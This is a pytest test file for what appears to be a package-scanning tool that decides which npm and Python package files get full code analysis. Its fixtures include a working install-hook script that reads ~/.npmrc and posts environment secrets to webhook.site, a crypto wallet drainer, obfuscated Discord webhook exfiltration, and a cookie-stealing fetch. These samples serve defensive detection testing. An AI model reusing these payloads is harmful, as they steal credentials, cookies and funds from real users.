"""Which code gets a syntax tree and which the text-only pass, and what the text-only pass still sees."""

from __future__ import annotations

import pytest

from chainwatch.packages import signals as sg
from chainwatch.packages.analyze import BUNDLE_BYTES
from tests.packages.helpers import facts_of, npm_tgz, verdict, wheel_bytes


def _filler(min_bytes: int) -> str:
    """Plain bundled-library code, enough of it to pass ``min_bytes``."""
    one = "function helper{i}(a, b) {{ return a.concat(b).filter(Boolean).map(String); }}\n"
    out, size, i = [], 0, 0
    while size < min_bytes:
        line = one.format(i=i)
        out.append(line)
        size += len(line)
        i += 1
    return "".join(out)


SHAI_HULUD_LIKE = '''
const { execSync } = require("child_process");
const os = require("os");
const fs = require("fs");
const https = require("https");
async function main() {
  const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
  execSync("curl -sL https://github.com/trufflesecurity/trufflehog/releases/download/v3.0.0/t.tgz -o /tmp/t.tgz");
  const body = JSON.stringify({ env: process.env, npmrc });
  const req = https.request({ hostname: "webhook.site", path: "/bb8ca5f6", method: "POST" });
  req.write(body);
  req.end();
}
main();
'''


def test_a_bundle_run_by_an_install_hook_gets_the_full_analysis_whatever_its_size() -> None:
    bundle = _filler(BUNDLE_BYTES + 1) + SHAI_HULUD_LIKE
    data = npm_tgz("@ctrl/tinycolor", "4.1.1", {"index.js": "module.exports = {};\n", "bundle.js": bundle},
                   scripts={"postinstall": "node bundle.js"})
    facts = facts_of(data)
    assert facts.text_only == []
    flows = [s for s in facts.signals if s.file == "bundle.js" and s.kind == sg.EXFIL_FLOW]
    assert flows and all(s.phase == sg.INSTALL for s in flows)
    assert verdict(data)[0] == "malicious"


def test_a_large_bundle_nothing_runs_at_install_gets_the_text_only_pass() -> None:
    wallets = ",".join(f'"0x{i:040x}"' for i in range(1, 40))
    drainer = ("const W=[" + wallets + "];if(window.ethereum){const o=window.ethereum.request;"
               "window.ethereum.request=async function(a){if(a.method==='eth_sendTransaction'){a.params[0].to=W[0];}"
               "return o.apply(this,arguments);};}\n"
               'const hook = "https:\\x2f\\x2fdiscord.com/api/webhooks/123456789/abcdefghijklmnop";\n'
               'eval(atob(payload));\n')
    vendor = _filler(BUNDLE_BYTES + 1) + drainer
    data = npm_tgz("chalk", "5.6.1", {"index.js": "module.exports = require('./dist/vendor.js');\n",
                                      "dist/vendor.js": vendor})
    facts = facts_of(data)
    assert [t.split(":")[0] for t in facts.text_only] == ["dist/vendor.js"]
    vendor_signals = [s for s in facts.signals if s.file == "dist/vendor.js"]
    assert vendor_signals and all(s.detail["analysis"].startswith("text only") for s in vendor_signals)
    kinds = {s.kind for s in vendor_signals}
    assert sg.EXEC_DECODED in kinds  # wallet hijack: a file-level check, kept
    hooks = [s for s in vendor_signals if s.kind in (sg.ENDPOINT, sg.ENDPOINT_TOKEN)]
    assert any("discord.com/api/webhooks" in s.detail.get("url", "") for s in hooks)  # through \x2f escapes
    assert hooks[0].line == vendor.count("\n", 0, vendor.index('const hook')) + 1
    assert sg.EXEC_DYNAMIC not in kinds  # calls are not resolved without a tree
    assert verdict(data)[0] == "malicious"
    from chainwatch.packages.judge import judge

    notes = [f for f in judge(facts) if f.rule == "package.text-only"]
    assert len(notes) == 1 and notes[0].severity.value == "info"
    assert notes[0].evidence["files"] == facts.text_only


def test_the_entry_point_gets_the_full_analysis_even_when_large() -> None:
    index = _filler(BUNDLE_BYTES + 1) + SHAI_HULUD_LIKE
    facts = facts_of(npm_tgz("big-main", "1.0.0", {"index.js": index}))
    assert facts.text_only == []
    assert any(s.kind == sg.EXFIL_FLOW for s in facts.signals)


WEB_ASSET = ('(function(){var f=new Function("a","return a");var u="https://discord.com/api/webhooks/1/abcdefgh";'
             'fetch(u,{method:"POST",body:document.cookie});})();\n')


def test_javascript_in_a_python_package_is_text_only_unless_python_starts_it() -> None:
    served = wheel_bytes({"webui/__init__.py": "STATIC = 'static/app.js'\n",
                          "webui/static/app.js": WEB_ASSET,
                          "webui-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: webui\nVersion: 1.0\n"})
    facts = facts_of(served)
    assert [t.split(":")[0] for t in facts.text_only] == ["webui/static/app.js"]
    js = [s for s in facts.signals if s.file == "webui/static/app.js"]
    assert any(s.kind in (sg.ENDPOINT, sg.ENDPOINT_TOKEN) for s in js)  # the literal is still read
    assert not any(s.kind in (sg.EXEC_DYNAMIC, sg.NETWORK) for s in js)

    started = wheel_bytes({"webui/__init__.py": "import subprocess\n"
                                                "subprocess.Popen(['node', 'static/app.js'])\n",
                           "webui/static/app.js": WEB_ASSET,
                           "webui-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: webui\nVersion: 1.0\n"})
    facts = facts_of(started)
    assert facts.text_only == []
    kinds = {s.kind for s in facts.signals if s.file == "webui/static/app.js"}
    assert sg.EXEC_DYNAMIC in kinds and sg.NETWORK in kinds

    embedded = wheel_bytes({"webui/__init__.py": "import js2py, pathlib\n"
                                                 "js2py.eval_js(pathlib.Path(__file__).with_name('app.js').read_text())\n",
                            "webui/app.js": WEB_ASSET,
                            "webui-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: webui\nVersion: 1.0\n"})
    assert facts_of(embedded).text_only == []


def test_a_file_made_of_indicator_keywords_stops_at_the_limit_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    from chainwatch.packages import jsscan

    monkeypatch.setattr(jsscan, "MAX_TEXT_CHECKED", 500)  # the same path as 50,000, faster
    hostile = ('"chrome wallet credentials",\n' * 2000).encode()
    signals = jsscan.JsScanner("dist/x.js", hostile, sg.IMPORT).scan_text_only("test")
    limits = [s for s in signals if s.kind == sg.PARSE_ERROR]
    assert len(limits) == 1 and "500 checked" in limits[0].detail["error"]


def test_large_bin_and_exports_targets_get_the_full_analysis() -> None:
    import json

    from tests.packages.helpers import tar_bytes

    manifest = {"name": "big-cli", "version": "2.0.0", "description": "A CLI", "main": "index.js",
                "bin": {"big-cli": "./cli/run.js"}, "repository": "https://example.org/big-cli.git",
                "exports": {".": {"import": "./dist/index.mjs", "require": {"default": "./dist/index.cjs"}}}}
    payload = _filler(BUNDLE_BYTES + 1) + SHAI_HULUD_LIKE
    data = tar_bytes({"package.json": json.dumps(manifest), "index.js": "module.exports = {};\n",
                      "cli/run.js": payload, "dist/index.cjs": payload, "dist/other.js": payload}, "package/")
    facts = facts_of(data)
    assert [t.split(":")[0] for t in facts.text_only] == ["dist/other.js"]
    flows = {s.file for s in facts.signals if s.kind == sg.EXFIL_FLOW}
    assert {"cli/run.js", "dist/index.cjs"} <= flows
    assert "dist/other.js" not in flows
